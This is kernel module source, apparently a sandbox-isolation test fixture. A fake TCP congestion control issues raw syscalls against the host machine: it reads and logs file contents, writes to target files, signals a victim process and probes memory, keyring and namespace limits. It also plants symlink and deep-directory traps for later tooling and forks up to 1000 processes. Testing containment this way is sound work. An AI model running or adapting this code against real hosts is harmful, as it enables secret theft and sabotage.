// SPDX-License-Identifier: GPL-2.0
/*
 * A congestion control that attacks the machine on which its guest runs, and says in the guest's log what it got.
 *
 * A guest's kernel is a process of that machine: what looks like a module can make system calls there. hostile.h, which the
 * test writes, says what to look for. Never loaded outside of a guest.
 */
#include <linux/module.h>
#include <linux/string.h>
#include <net/tcp.h>

#include "hostile.h"

/* arch/x86/entry/syscalls/syscall_64.tbl */
enum call {
	CALL_READ = 0,
	CALL_WRITE = 1,
	CALL_OPEN = 2,
	CALL_CLOSE = 3,
	CALL_MMAP = 9,
	CALL_SHMGET = 29,
	CALL_PAUSE = 34,
	CALL_SOCKET = 41,
	CALL_CONNECT = 42,
	CALL_FORK = 57,
	CALL_KILL = 62,
	CALL_CHDIR = 80,
	CALL_FCHDIR = 81,
	CALL_MKDIR = 83,
	CALL_SYMLINK = 88,
	CALL_MKNOD = 133,
	CALL_KEYCTL = 250,
	CALL_UNSHARE = 272,
};

/* One of at most 0: an address or a number that was given counts as success. */
static long failure(long result)
{
	return result < 0 && result > -4096 ? result : 0;
}

static long host(enum call call, long a, long b, long c)
{
	register long r10 asm("r10") = 0x4022; /* of mmap: private, anonymous, not reserved */
	register long r8 asm("r8") = -1;
	register long r9 asm("r9") = 0;
	long result;

	asm volatile("syscall"
		     : "=a"(result)
		     : "a"((long)call), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
		     : "rcx", "r11", "memory");
	return result;
}

static void look_into(const char *path)
{
	static char text[2048];
	long fd = host(CALL_OPEN, (long)path, 0, 0), got, i;

	if (fd < 0) {
		pr_warn("hostile: read %s: %ld\n", path, fd);
		return;
	}
	got = host(CALL_READ, fd, (long)text, sizeof(text) - 1);
	host(CALL_CLOSE, fd, 0, 0);
	text[got < 0 ? 0 : got] = 0;
	for (i = 0; i < got; i++)
		if (text[i] < ' ')
			text[i] = '|';
	pr_warn("hostile: read %s: %ld %.600s\n", path, got, text);
}

static void write_to(const char *path)
{
	long fd = host(CALL_OPEN, (long)path, 0101, 0644);

	pr_warn("hostile: write %s: %ld\n", path,
		fd < 0 ? fd : host(CALL_WRITE, fd, (long)"hostile", 7));
	if (fd >= 0)
		host(CALL_CLOSE, fd, 0, 0);
}

static void connect_to(unsigned short port)
{
	struct {
		u16 family, port;
		u8 address[4], zero[8];
	} there = {2, port, {127, 0, 0, 1}, {0}};
	long fd = host(CALL_SOCKET, 2, 1, 0);

	pr_warn("hostile: connect: %ld\n",
		fd < 0 ? fd : host(CALL_CONNECT, fd, (long)&there, sizeof(there)));
	if (fd >= 0)
		host(CALL_CLOSE, fd, 0, 0);
}

/* For whoever reads or removes the folder afterwards. */
static void leave_traps(void)
{
	long here = host(CALL_OPEN, (long)".", 0200000, 0);
	int i;

	host(CALL_SYMLINK, (long)SECRET, (long)"guest/facts.json", 0);
	host(CALL_SYMLINK, (long)"/", (long)"guest/iperf3", 0);
	host(CALL_MKNOD, (long)"guest/pipe", 010644, 0);
	host(CALL_CHDIR, (long)"guest", 0, 0);
	for (i = 0; i < 2000; i++) {
		host(CALL_MKDIR, (long)"deeper", 0755, 0);
		host(CALL_CHDIR, (long)"deeper", 0, 0);
	}
	host(CALL_FCHDIR, here, 0, 0);
	host(CALL_CLOSE, here, 0, 0);
}

static void multiply(void)
{
	long child, n = 0;

	while (n < 1000) {
		child = host(CALL_FORK, 0, 0, 0);
		if (child == 0)
			for (;;)
				host(CALL_PAUSE, 0, 0, 0);
		if (child < 0)
			break;
		children[n++] = child;
	}
	pr_warn("hostile: forks: %ld\n", n);
	while (n > 0)
		host(CALL_KILL, children[--n], 9, 0);
}

static struct tcp_congestion_ops hostile __read_mostly = {
	.ssthresh = tcp_reno_ssthresh,
	.cong_avoid = tcp_reno_cong_avoid,
	.undo_cwnd = tcp_reno_undo_cwnd,
	.owner = THIS_MODULE,
	.name = "hostile",
};

static int __init hostile_register(void)
{
	int i;

	for (i = 0; i < ARRAY_SIZE(files); i++)
		look_into(files[i]);
	for (i = 0; i < ARRAY_SIZE(targets); i++)
		write_to(targets[i]);
	connect_to(PORT);
	pr_warn("hostile: signal: %ld\n", host(CALL_KILL, VICTIM, 0, 0));
	pr_warn("hostile: memory: %ld\n", failure(host(CALL_MMAP, 0, 1L << 36, 3)));
	pr_warn("hostile: segment: %ld\n", failure(host(CALL_SHMGET, 0, 1L << 20, 01600)));
	pr_warn("hostile: keyring: %ld\n", failure(host(CALL_KEYCTL, 0, -4, 0)));
	pr_warn("hostile: namespace: %ld\n", host(CALL_UNSHARE, 0x10000000, 0, 0));
	leave_traps();
	multiply();
	return tcp_register_congestion_control(&hostile);
}

static void __exit hostile_unregister(void)
{
	tcp_unregister_congestion_control(&hostile);
}

module_init(hostile_register);
module_exit(hostile_unregister);

MODULE_DESCRIPTION("attacks the machine");
MODULE_LICENSE("GPL");
